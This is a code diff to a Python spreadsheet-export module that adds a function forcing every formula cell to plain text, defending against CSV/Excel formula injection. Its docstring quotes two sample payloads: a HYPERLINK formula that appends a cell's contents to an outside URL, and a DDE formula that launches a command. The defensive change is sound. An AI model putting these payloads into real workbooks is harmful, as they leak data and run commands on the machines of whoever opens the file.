@@ -41,8 +41,19 @@ def set_row_height(sheet: Worksheet, row: int, widths: Sequence[float]) -> None:
     sheet.row_dimensions[row].height = round(lines * LINE_HEIGHT + 4, 1)
 
 
+def text_only(sheet: Worksheet) -> None:
+    """Store every cell that would be a formula as the text it is. openpyxl makes any string starting with
+    ``=`` a formula, so a unit's report ``=HYPERLINK("http://…?d="&A1,"点击查看")`` or ``=cmd|' /C calc'!A0``
+    would run in the office's Excel; no workbook duban writes has a formula of its own."""
+    for cell in sheet._cells.values():
+        if cell.data_type == "f":
+            cell.data_type = "s"
+
+
 def print_setup(sheet: Worksheet, paper: str, title_rows: str | None, area: str | None) -> None:
-    """Landscape, fit to one page wide (as many pages tall as needed), header repeated, page x of y."""
+    """Landscape, fit to one page wide (as many pages tall as needed), header repeated, page x of y; called
+    on every sheet duban writes once its cells are in, so it also makes every cell text (``text_only``)."""
+    text_only(sheet)
     sheet.page_setup.orientation = "landscape"
     sheet.page_setup.paperSize = sheet.PAPERSIZE_A3 if paper.upper() == "A3" else sheet.PAPERSIZE_A4
     sheet.page_setup.fitToWidth = 1
